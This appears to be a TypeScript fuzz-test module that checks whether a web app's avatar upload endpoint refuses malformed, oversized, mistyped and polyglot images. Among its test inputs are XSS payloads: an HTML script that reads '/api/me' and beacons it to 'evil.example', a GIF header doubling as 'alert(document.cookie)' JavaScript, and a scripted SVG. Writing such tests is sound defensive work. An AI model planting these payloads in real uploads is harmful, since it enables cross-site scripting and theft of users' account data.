// Avatar upload fuzzer: real images (made by FFmpeg) cut short, with impossible dimensions, turned into polyglots
// (an image that is also HTML or JavaScript), under the wrong content type, empty, and at and above
// MAX_UPLOAD_BYTES; plus random truncations and byte flips. A bad upload must be a 4xx and leave the previous
// avatar served exactly as it was, with its own image type and nosniff.
import { execFileSync } from 'node:child_process';
import { mkdtempSync, readFileSync, rmSync } from 'node:fs';
import os from 'node:os';
import path from 'node:path';
import { crc32 } from 'node:zlib';
import type { Client, TestApi } from '../api.ts';
import { cookieHeader } from '../chat.ts';
import type { Rng } from './common.ts';

export type ImageType = 'image/png' | 'image/jpeg' | 'image/gif' | 'image/webp';
export const IMAGE_TYPES: readonly ImageType[] = ['image/png', 'image/jpeg', 'image/gif', 'image/webp'];

/** One small, valid image of each type, made by FFmpeg (8×8, a test pattern). */
export function validImages(): Record<ImageType, Buffer> {
  const dir = mkdtempSync(path.join(os.tmpdir(), 'glint-avatar-fuzz-'));
  try {
    const make = (file: string, args: string[]) => {
      execFileSync('ffmpeg', ['-hide_banner', '-loglevel', 'error', '-f', 'lavfi', '-i', 'testsrc=size=8x8:rate=1', '-frames:v', '1', ...args, path.join(dir, file)]);
      return readFileSync(path.join(dir, file));
    };
    return {
      'image/png': make('a.png', []),
      'image/jpeg': make('a.jpg', ['-q:v', '5']),
      'image/gif': make('a.gif', []),
      'image/webp': make('a.webp', ['-c:v', 'libwebp', '-lossless', '0']),
    };
  } finally {
    rmSync(dir, { recursive: true, force: true });
  }
}

const chunk = (type: string, data: Buffer) => {
  const head = Buffer.alloc(8);
  head.writeUInt32BE(data.length, 0);
  head.write(type, 4, 'latin1');
  const crc = Buffer.alloc(4);
  crc.writeUInt32BE(crc32(Buffer.concat([head.subarray(4), data])) >>> 0, 0);
  return Buffer.concat([head, data, crc]);
};

/** A PNG padded with a private ancillary chunk (which decoders skip) to exactly `size` bytes: still a valid PNG. */
export function pngOfSize(png: Buffer, size: number): Buffer {
  const iend = png.length - 12;
  const pad = size - png.length - 12;
  if (pad < 0) throw new Error('too small to pad');
  return Buffer.concat([png.subarray(0, iend), chunk('glPd', Buffer.alloc(pad, 0x20)), png.subarray(iend)]);
}

/** The same image claiming a huge canvas (a decompression bomb's header): IHDR / SOF / screen / VP8 dimensions. */
export function hugeDimensions(type: ImageType, img: Buffer): Buffer {
  const b = Buffer.from(img);
  if (type === 'image/png') {
    // IHDR data starts at 16; rewrite width and height and fix the chunk's CRC so only the size is wrong
    b.writeUInt32BE(0x7fffffff, 16);
    b.writeUInt32BE(0x7fffffff, 20);
    b.writeUInt32BE(crc32(b.subarray(12, 29)) >>> 0, 29);
  } else if (type === 'image/jpeg') {
    for (let i = 2; i < b.length - 9; i++) {
      if (b[i] === 0xff && (b[i + 1] === 0xc0 || b[i + 1] === 0xc2)) {
        b.writeUInt16BE(0xffff, i + 5);
        b.writeUInt16BE(0xffff, i + 7);
        break;
      }
    }
  } else if (type === 'image/gif') {
    b.writeUInt16LE(0xffff, 6);
    b.writeUInt16LE(0xffff, 8);
  } else {
    const at = b.indexOf(Buffer.from([0x9d, 0x01, 0x2a]));
    if (at > 0) {
      b.writeUInt16LE(0x3fff, at + 3);
      b.writeUInt16LE(0x3fff, at + 5);
    }
  }
  return b;
}

const HTML = '<html><body><script>fetch("/api/me").then(r=>r.text()).then(t=>navigator.sendBeacon("//evil.example",t))</script></body></html>';

/** Images that are also something else: HTML after the image's end, or a header that is also a script. */
export function polyglots(images: Record<ImageType, Buffer>): { type: ImageType; bytes: Buffer; what: string }[] {
  return [
    ...IMAGE_TYPES.map((type) => ({ type, bytes: Buffer.concat([images[type], Buffer.from(HTML)]), what: `${type} with HTML after its end` })),
    { type: 'image/png', bytes: Buffer.concat([images['image/png'].subarray(0, 8), Buffer.from(HTML)]), what: 'PNG signature, then HTML' },
    { type: 'image/gif', bytes: Buffer.from('GIF89a/*\x01\x00\x01\x00\x00\x00\x00*/=1;alert(document.cookie);//'), what: 'GIF header that is also JavaScript' },
    { type: 'image/jpeg', bytes: Buffer.concat([Buffer.from([0xff, 0xd8, 0xff, 0xfe, 0x00, 0x80]), Buffer.from(HTML.padEnd(126)), Buffer.from([0xff, 0xd9])]), what: 'JPEG of nothing but a comment holding HTML' },
    { type: 'image/webp', bytes: Buffer.concat([Buffer.from('RIFF'), Buffer.from([0xff, 0xff, 0xff, 0x7f]), Buffer.from('WEBP'), Buffer.from(HTML)]), what: 'WebP header, then HTML' },
  ];
}

export type AvatarCase = { type: string | undefined; bytes: Buffer; what: string; expect: 'refused' | 'accepted' | 'not-too-large' | 'too-large' | 'any' };

/** The fixed catalogue: every bad shape the brief names, and the good ones they must not be confused with. */
export function avatarCases(images: Record<ImageType, Buffer>, maxUploadBytes: number): AvatarCase[] {
  const cases: AvatarCase[] = [];
  for (const type of IMAGE_TYPES) {
    const img = images[type];
    cases.push({ type, bytes: img, what: `a valid ${type}`, expect: 'accepted' });
    cases.push({ type, bytes: img.subarray(0, Math.floor(img.length / 2)), what: `${type} cut in half`, expect: 'refused' });
    cases.push({ type, bytes: img.subarray(0, img.length - 1), what: `${type} missing its last byte`, expect: 'refused' });
    cases.push({ type, bytes: img.subarray(0, 12), what: `${type}: only the first 12 bytes`, expect: 'refused' });
    cases.push({ type, bytes: hugeDimensions(type, img), what: `${type} claiming a huge canvas`, expect: 'refused' });
    for (const other of IMAGE_TYPES.filter((t) => t !== type)) cases.push({ type: other, bytes: img, what: `${type} sent as ${other}`, expect: 'refused' });
    cases.push({ type: `${type}; charset=utf-8`, bytes: img, what: `a valid ${type} with parameters on its type`, expect: 'any' });
  }
  for (const p of polyglots(images)) cases.push({ type: p.type, bytes: p.bytes, what: p.what, expect: 'refused' });
  const png = images['image/png'];
  for (const type of [undefined, '', 'text/html', 'image/svg+xml', 'application/octet-stream', 'image/x-icon', 'image/avif', 'multipart/form-data; boundary=x', 'IMAGE/PNG ', 'image/png, text/html']) {
    cases.push({ type, bytes: png, what: `a PNG as ${JSON.stringify(type)}`, expect: type?.trim().toLowerCase() === 'image/png' ? 'any' : 'refused' });
  }
  cases.push({ type: 'image/svg+xml', bytes: Buffer.from(`<svg xmlns="http://www.w3.org/2000/svg"><script>alert(1)</script></svg>`), what: 'an SVG with a script', expect: 'refused' });
  for (const type of IMAGE_TYPES) cases.push({ type, bytes: Buffer.alloc(0), what: `zero bytes as ${type}`, expect: 'refused' });
  cases.push({ type: 'image/png', bytes: pngOfSize(png, maxUploadBytes), what: 'a valid PNG of exactly MAX_UPLOAD_BYTES', expect: 'not-too-large' });
  cases.push({ type: 'image/png', bytes: pngOfSize(png, maxUploadBytes + 1), what: 'a valid PNG one byte over MAX_UPLOAD_BYTES', expect: 'too-large' });
  cases.push({ type: 'image/png', bytes: pngOfSize(png, maxUploadBytes * 4), what: 'a PNG four times MAX_UPLOAD_BYTES', expect: 'too-large' });
  return cases;
}

/** A random mutation of a valid image: a truncation (always invalid), or flipped/inserted bytes (anything goes). */
export function mutatedImage(rng: Rng, images: Record<ImageType, Buffer>): AvatarCase {
  const type = rng.pick(IMAGE_TYPES);
  const img = images[type];
  const r = rng.int(3);
  if (r === 0) {
    const at = 1 + rng.int(img.length - 1);
    return { type, bytes: img.subarray(0, at), what: `${type} truncated at ${at} of ${img.length}`, expect: 'refused' };
  }
  const b = Buffer.from(img);
  const flips = 1 + rng.int(8);
  for (let i = 0; i < flips; i++) b[rng.int(b.length)] = rng.int(256);
  if (r === 1) return { type, bytes: b, what: `${type} with ${flips} random bytes`, expect: 'any' };
  const at = rng.int(b.length);
  return { type, bytes: Buffer.concat([b.subarray(0, at), Buffer.alloc(1 + rng.int(64), rng.int(256)), b.subarray(at)]), what: `${type} with bytes inserted at ${at}`, expect: 'any' };
}

export type Served = { type: string; bytes: Buffer };

/** PUTs an avatar as `as` (anonymous when undefined). */
export const upload = async (api: TestApi, slug: string, as: Client | undefined, c: { type: string | undefined; bytes: Buffer }) => {
  const headers: Record<string, string> = { origin: api.base };
  if (c.type !== undefined) headers['content-type'] = c.type;
  if (as) headers.cookie = cookieHeader(as);
  const res = await fetch(`${api.base}/api/channels/${slug}/avatar`, { method: 'PUT', headers, body: new Uint8Array(c.bytes) });
  return { status: res.status, type: res.headers.get('content-type'), text: await res.text() };
};

/** Checks one upload's reply against what the case expects, then that the served avatar is `expected` (or the new one). */
export async function checkUpload(api: TestApi, slug: string, as: Client | undefined, c: AvatarCase, expected: Served, seed: number): Promise<{ served: Served; problems: string[] }> {
  const problems: string[] = [];
  const r = await upload(api, slug, as, c);
  const where = `[seed ${seed}] PUT avatar ${c.what} (${c.bytes.length} bytes, content-type ${JSON.stringify(c.type)}) → ${r.status} ${r.text.slice(0, 200)}`;
  if (r.status >= 500) problems.push(`5xx: ${where}`);
  if (r.status >= 400 && !(r.type ?? '').startsWith('application/problem+json')) problems.push(`a refusal that is not problem+json: ${where}`);
  const refused = r.status >= 400 && r.status < 500;
  if (c.expect === 'refused' && !refused) problems.push(`should be refused with a 4xx: ${where}`);
  if (c.expect === 'accepted' && r.status !== 200) problems.push(`should be accepted: ${where}`);
  if (c.expect === 'too-large' && r.status !== 413) problems.push(`should be 413: ${where}`);
  if (c.expect === 'not-too-large' && r.status === 413) problems.push(`within the limit, so not 413: ${where}`);
  const served: Served = r.status === 200 ? { type: c.type!.split(';')[0]!.trim().toLowerCase(), bytes: c.bytes } : expected;
  const got = await fetch(`${api.base}/api/channels/${slug}/avatar`);
  const bytes = Buffer.from(await got.arrayBuffer());
  if (got.status !== 200) problems.push(`the avatar is no longer served (${got.status}) after: ${where}`);
  else {
    if (got.headers.get('content-type') !== served.type) problems.push(`served as ${got.headers.get('content-type')}, not ${served.type}, after: ${where}`);
    if (got.headers.get('x-content-type-options') !== 'nosniff') problems.push(`served without nosniff after: ${where}`);
    if (!bytes.equals(served.bytes)) problems.push(`the served avatar changed (${bytes.length} bytes, expected ${served.bytes.length}) after: ${where}`);
  }
  return { served, problems };
}

/**
 * The catalogue once, then random mutations until `seconds` pass, all as the owner; returns the problems found and
 * what is served at the end. The caller uploads a first, valid avatar (`served`).
 */
export async function fuzzAvatars(api: TestApi, slug: string, owner: Client, images: Record<ImageType, Buffer>, served: Served, rng: Rng, seconds: number): Promise<{ cases: number; problems: string[]; served: Served }> {
  const problems: string[] = [];
  let cases = 0;
  for (const c of rng.shuffle(avatarCases(images, api.config.maxUploadBytes))) {
    const r = await checkUpload(api, slug, owner, c, served, rng.seed);
    served = r.served;
    problems.push(...r.problems);
    cases++;
  }
  const deadline = Date.now() + seconds * 1000;
  while (Date.now() < deadline) {
    const r = await checkUpload(api, slug, owner, mutatedImage(rng, images), served, rng.seed);
    served = r.served;
    problems.push(...r.problems);
    cases++;
  }
  return { cases, problems, served };
}
